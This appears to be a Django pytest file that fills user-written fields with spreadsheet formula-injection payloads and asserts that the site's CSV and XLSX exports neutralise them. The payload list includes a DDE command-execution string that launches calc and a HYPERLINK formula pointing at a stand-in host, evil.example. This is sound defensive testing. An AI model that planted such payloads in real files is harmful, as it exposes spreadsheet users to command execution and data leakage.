"""No file for spreadsheets runs what somebody typed, whatever it begins with and wherever they
typed it."""

import csv
import io
import re
import zipfile
from collections.abc import Iterator
from typing import Any, Final

import pytest
from django.apps import apps
from django.db import models, transaction
from pytest_django import DjangoDbBlocker

from tests.factories import sign_in
from tests.site.pages import PAGES, Gate, url
from tests.site.site import Site, make_site
from workbench.models import Frozen

STARTS: Final = ("=", "+", "-", "@", "\t=", "\r=", " =", "=cmd|' /C calc'!A0+", "'=", "\uff1d")
TYPED: Final = '{}HYPERLINK("http://evil.example/zq","zq")'
# What people write in their own words. Keys, references and values are not theirs to choose.
WORDS: Final = {
    *("title", "name", "text", "note", "source", "label", "description", "reason", "summary"),
    *("question", "caption", "owner", "why", "lost_why", "replaced_by", "heading", "help"),
    *(
        "action",
        "owner_role",
        "done",
        "supplier",
        "evidence",
        "mitigation",
        "actor_name",
        "subject",
    ),
    *("next_milestone", "explanation", "ownership", "activity", "products", "file_name", "group"),
}
OWN: Final = re.compile(r"[+-]?[\d.,]+%?")


@pytest.fixture(scope="module")
def hostile(django_db_setup: None, django_db_blocker: DjangoDbBlocker) -> Iterator[Site]:
    """A site in which every such column of every row begins as a formula does."""
    with django_db_blocker.unblock():
        whole = transaction.atomic()
        with whole:
            site = make_site()
            assert sum(map(_type_into, _models())) > 60
            with django_db_blocker.block():
                yield site
            transaction.set_rollback(True)


def _models() -> Iterator[type[models.Model]]:
    for name in ("schemes", "appraisal", "reports"):
        for model in apps.get_app_config(name).get_models():
            if not issubclass(model, Frozen):
                yield model


def _type_into(model: type[models.Model]) -> int:
    """How many columns were typed into."""
    fields = [
        field
        for field in model._meta.concrete_fields
        if field.name in WORDS
        and isinstance(field, models.CharField | models.TextField)
        and not (field.choices or field.unique)
    ]
    for row in model._base_manager.all():
        typed = {
            field.name: f"{TYPED.format(STARTS[(row.pk + at) % len(STARTS)])} {row.pk}"
            for at, field in enumerate(fields)
            if getattr(row, field.name)
        }
        if typed:
            model._base_manager.filter(pk=row.pk).update(**typed)
    return len(fields)


FILES: Final = [
    name
    for name, page in sorted(PAGES.items())
    if page.see
    and not page.html
    and re.search(r"csv|xlsx|export|template|ranked|value|contrib|years", name)
]


def test_every_file_for_spreadsheets_holds_words_alone(hostile: Site, db: None) -> None:
    lead = sign_in(hostile.world.lead)
    administrator = sign_in(hostile.people["site administrator"])  # type: ignore[arg-type]
    kinds = []
    for name in FILES:
        person = administrator if PAGES[name].see is Gate.ADMINISTRATOR else lead
        answer = person.get(url(name, hostile.parameters) + PAGES[name].query)
        if answer.status_code != 200:
            continue
        body = b"".join(answer.streaming_content) if answer.streaming else answer.content
        kind = answer.headers["Content-Type"]
        if "csv" in kind:
            assert_no_formula_in_csv(name, body)
        elif body.startswith(b"PK"):
            assert_no_formula_in_workbook(name, body)
        else:
            continue
        kinds.append((name, b"zq" in body or body.startswith(b"PK")))
    assert len(kinds) >= 8, kinds
    assert sum(typed for _name, typed in kinds) >= 5, kinds


def assert_no_formula_in_csv(name: str, body: bytes) -> None:
    for row in csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")):
        for cell in row:
            begins = cell.lstrip(" \ufeff")[:1]
            if begins and begins in "=+-@\t\r":
                assert OWN.fullmatch(cell.strip()), (name, cell[:60])


def assert_no_formula_in_workbook(name: str, body: bytes) -> Any:
    with zipfile.ZipFile(io.BytesIO(body)) as package:
        for part in package.namelist():
            assert not re.search(r"externalLink|vba|activeX|connections", part), (name, part)
            text = package.read(part).decode("utf-8", "replace")
            for formula in re.findall(r"<f[ >].*?</f>|<formula1?>.*?</formula", text, re.DOTALL):
                assert not re.search(r"HYPERLINK|cmd|zq|DDE", formula), (name, part, formula[:80])
            assert "evil.example" not in text or not part.endswith(".rels"), (name, part)
